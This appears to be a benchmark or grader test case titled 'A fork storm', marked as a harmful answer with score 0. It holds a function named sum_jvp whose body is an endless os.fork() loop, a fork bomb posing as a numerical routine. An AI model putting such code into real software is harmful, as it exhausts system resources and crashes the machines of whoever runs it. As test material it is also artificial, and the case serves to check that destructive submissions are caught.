# /// case
# title = "A fork storm"
# kind = "harm"
# score = 0
# ///

# %% answer sum_jvp
import os

def sum_jvp(x1, dx1, x2, dx2):
    while True:
        try:
            os.fork()
        except OSError:
            pass
